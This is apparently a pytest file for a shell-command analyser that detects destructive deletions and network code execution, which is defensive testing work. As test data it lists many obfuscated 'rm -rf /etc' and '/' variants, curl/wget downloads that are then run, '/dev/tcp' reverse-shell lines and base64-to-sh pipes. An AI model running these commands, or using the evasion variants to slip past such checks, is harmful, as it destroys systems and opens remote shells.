"""What one part of a line means for the next: variables, directories, branches, and files that the line makes and runs."""

from __future__ import annotations

import pytest

from bus.shell import UNSET, commands
from bus.shell.words import PROJECT
from tests.support.rows import rows


def deleted(text: str) -> set[str]:
    """The paths that the `rm` of a line are given, seen from where they run."""
    found: set[str] = set()
    for one in commands(text).items:
        for word in one.words if one.program == "rm" else ():
            if not word.startswith("-"):
                plain = word.startswith(("/", "~")) or one.directory == "."
                found.add(word if plain else f"{one.directory}/{word}")
    return found


@pytest.mark.req("X-09")
@rows(
    ("text", "path"),
    [
        ('set -- /; rm -rf "$1"', "/"),
        ("for d in build /srv; do (cd $d && rm -rf *); done", "/srv/*"),
        ("for d in a /opt; do cd $d; rm -rf *; cd -; done", "a/*"),
        ('cmd=(rm -rf); cmd+=(/etc); "${cmd[@]}"', "/etc"),
        ('declare -A m=([a]=/etc); rm -rf "${m[a]}"', "/etc"),
        ('eval "d=/etc"; rm -rf $d', "/etc"),
        ("rm${IFS}-rf${IFS}/etc", "/etc"),
        ("a='b /etc'; rm -rf ./$a", "/etc"),
        ('f() { bash -c "$*"; }; f rm -rf /etc', "/etc"),
        ('clean() { rm -rf "$1/"*; }; clean', "/*"),
        ("rm -rf $(printenv HOME)", "~"),
        ("set -- a /etc; shift; rm -rf $1", "/etc"),
        ("set a /etc; rm -rf $2", "/etc"),
        ('set -- /etc /usr; rm -rf "$@"', "/usr"),
        ("rm -rf ${HOME%/}", "~"),
        ('rm -rf "${HOME%/*}"', "~/.."),
        ("x=/etc/; rm -rf ${x%/}", "/etc"),
        ("x=a/etc; rm -rf ${x#a}", "/etc"),
        ("x=/a/etc; rm -rf /${x##*/}", "/etc"),
        ("x=/tmp/x; rm -rf ${x/tmp/etc}", "/etc/x"),
        ("x=/etcx; rm -rf ${x:0:4}", "/etc"),
        ("x=/ETC; rm -rf ${x,,}", "/etc"),
        ("y=/etc; x=y; rm -rf ${!x}", "/etc"),
        ("rm -rf ${D:-/etc}", "/etc"),
        ("D=; rm -rf ${D:-/etc}", "/etc"),
        (": ${D:=/etc}; rm -rf $D", "/etc"),
        ("x=1; rm -rf ${x:+/etc}", "/etc"),
        ("rm -rf $TMPDIR/../etc", "/tmp/../etc"),
        ('rm -rf "$(git rev-parse --show-toplevel)"', PROJECT),
        ("cd $(git rev-parse --show-toplevel) && rm -rf .git", f"{PROJECT}/.git"),
        ("cd /; cd /tmp/x; cd -; rm -rf etc", "//etc"),
        ("pushd /; rm -rf etc", "//etc"),
        ("pushd /; pushd /tmp; popd; rm -rf etc", "//etc"),
        ("cd /; cd /tmp; rm -rf $OLDPWD/etc", "//etc"),
        ("read d <<< /etc; rm -rf $d", "/etc"),
        ("read -r a b <<< 'x /etc'; rm -rf $b", "/etc"),
        ("read d <<E\n/etc\nE\nrm -rf $d", "/etc"),
        ("printf '/usr\\n/etc\\n' | while read -r d; do rm -rf $d; done", "/etc"),
        ("while read d; do rm -rf $d; done <<< /etc", "/etc"),
        ("while read -r a d; do rm -rf $d; done <<E\nx /etc\nE", "/etc"),
        ("mapfile -t a <<< /etc; rm -rf ${a[0]}", "/etc"),
        ("a=(x /etc); rm -rf ${a[1]}", "/etc"),
        ('a=(-rf /etc); rm "${a[@]}"', "/etc"),
        ("for d in x /etc; do rm -rf $d; done", "/etc"),
        ("IFS=,; x=a,/etc; rm -rf $x", "/etc"),
        ("IFS=:; for d in $P; do :; done; rm /etc", "/etc"),
        ('f() { rm -rf "$2"; }; f a /etc', "/etc"),
        ("function f { local d=$1; rm -rf $d; }; f /etc", "/etc"),
        ("alias x='rm -rf'; x /etc", "/etc"),
        ("alias rmf='rm -rf /etc'\nrmf", "/etc"),
        ("export d=/etc; rm -rf $d", "/etc"),
        ('export "d=/etc"; rm -rf $d', "/etc"),
        ("declare -r d=/etc; rm -rf $d", "/etc"),
        ("typeset d=/etc; rm -rf $d", "/etc"),
        ("readonly d=/etc; rm -rf $d", "/etc"),
        ("d=$'/\\x65tc'; rm -rf $d", "/etc"),
        ("printf -v d '/%s' etc; rm -rf $d", "/etc"),
        ("rm -rf /{etc,usr}", "/etc"),
        ("if a; then d=/etc; else d=build; fi; rm -rf $d", "/etc"),
        ("d=build; case $x in a) d=/etc;; b) d=b;; esac; rm -rf $d", "/etc"),
        ("[ a ] && d=/etc; rm -rf $d", "/etc"),
        ("d=/etc; if a; then d=build; fi; rm -rf $d", "/etc"),
        ("coproc rm -rf /etc", "/etc"),
        ("exec rm -rf /etc", "/etc"),
        ("case a in a) rm -rf /etc;; esac", "/etc"),
        ("a || rm -rf /etc", "/etc"),
        ("bash <<< 'rm -rf /etc'", "/etc"),
        ("echo 'rm -rf /etc' > x.sh; sh x.sh", "/etc"),
        ("cat > x.sh <<'E'\nrm -rf /etc\nE\nbash ./x.sh", "/etc"),
        ("printf '#!/bin/sh\\nrm -rf /etc\\n' > x; chmod +x x; ./x", "/etc"),
        ("echo 'rm -rf $1' > x.sh; sh x.sh; . x.sh", UNSET),
        ("echo 'rm -rf /etc' | tee x.sh; sudo bash x.sh", "/etc"),
        ("echo a > x.sh; echo 'rm -rf /etc' >> x.sh; sh < x.sh", "/etc"),
        ("cat > x.py <<'E'\nimport shutil; shutil.rmtree('/etc')\nE\npython3 x.py", "/etc"),
        ("echo 'rm -rf /etc' > a; mv a b; sh b", "/etc"),
    ],
)
def test_what_is_deleted(text: str, path: str) -> None:
    if path != UNSET:
        assert path in deleted(text), deleted(text)


@pytest.mark.req("X-09")
@rows(
    "text",
    [
        "curl -o i.sh http://x && sh i.sh",
        "curl -fsSLo i.sh http://x; bash -x ./i.sh",
        "curl -O http://x/i.sh && bash i.sh --yes",
        "curl -LO http://x/i.sh && chmod +x i.sh && ./i.sh",
        "curl http://x > i.sh; sudo sh i.sh",
        "curl http://x | tee i.sh; sh i.sh",
        "cd /tmp && curl --output i.sh http://x && sh /tmp/i.sh",
        "curl -o /tmp/i.sh http://x; . /tmp/i.sh",
        "curl -o i http://x; source i",
        "curl http://x -o i.py && python3 i.py",
        "curl -o a http://x; mv a b; sh b",
        "curl -o i http://x; sh < i",
        "curl -o i http://x; cat i | sh",
        'curl -o i http://x; bash -c "$(cat i)"',
        "f=$(mktemp); curl -o $f http://x; sh $f",
        "curl --output-dir d -O http://x/i; sh d/i",
    ],
)
def test_a_download_that_the_same_line_runs(text: str) -> None:
    assert any("curl" in one.code_from for one in commands(text).items)


@pytest.mark.req("X-09")
@pytest.mark.parametrize(
    "text",
    [
        "wget http://x/i.sh && sh i.sh",
        "wget -q -O i http://x; bash i",
        "wget -P d http://x/i.sh; sh d/i.sh",
        "wget -O- http://x > i; sh i",
        "wget -qO i http://x && chmod 755 i && ./i",
        'bash -c "$(wget -qO- http://x)"',
        "wget http://x/i.sh?a=1 && sh i.sh",
    ],
)
def test_a_download_by_wget(text: str) -> None:
    assert any("wget" in one.code_from for one in commands(text).items)


@pytest.mark.req("X-09")
@pytest.mark.parametrize(
    ("text", "source"),
    [
        ("curl http://x | tee >(bash)", "curl"),
        ("curl http://x > >(sh)", "curl"),
        ("curl http://x | tee i | sudo bash", "curl"),
        ("bash < /dev/tcp/h/80", "nc"),
        ("bash -i >& /dev/tcp/h/80 0>&1", "nc"),
        ("exec 3<>/dev/tcp/h/80; sh <&3", "nc"),
        ("cat < /dev/tcp/h/80 | sh", "nc"),
        ("sh -i < /dev/udp/h/80", "nc"),
        ("echo eA== | base64 -d | sh", "base64"),
    ],
)
def test_code_from_the_network_by_other_paths(text: str, source: str) -> None:
    assert any(source in one.code_from for one in commands(text).items)


@pytest.mark.req("X-09")
@pytest.mark.parametrize(
    "text",
    [
        "curl -o i.json http://x && python3 parse.py i.json",
        "curl -O http://x/a.tgz && tar xf a.tgz",
        "curl -o i.sh http://x; cat i.sh",
        "curl -o i.sh http://x; sh other.sh",
        "curl http://x | tee log",
        "wget http://x/a.whl && pip install a.whl",
        "cat f > x; sh y",
    ],
)
def test_a_download_that_nothing_runs(text: str) -> None:
    assert not any(one.code_from for one in commands(text).items)


@pytest.mark.req("X-09")
@pytest.mark.parametrize(
    ("text", "read"),
    [
        ("sort a | uniq > a", ("a",)),
        ("cat ./a | tee a", ("a",)),
        ("cat < a | jq . > a", ("a",)),
        ("sort a | uniq > b", ()),
        ("while read l; do echo $l; done < a > b", ("a",)),
    ],
)
def test_a_pipeline_that_empties_what_it_reads(text: str, read: tuple[str, ...]) -> None:
    assert commands(text).items[-1 if "|" in text else 0].reads == read


@pytest.mark.req("X-09")
@pytest.mark.parametrize(
    ("text", "program"),
    [("{ :; } > a", ""), ("( true ) > a", ""), ("{ echo a; } > a", "\0"), ("for x in 1 2; do echo $x; done > a", "\0")],
)
def test_only_a_statement_that_prints_nothing_empties_its_target(text: str, program: str) -> None:
    assert [one.program for one in commands(text).items if one.writes] == [program]
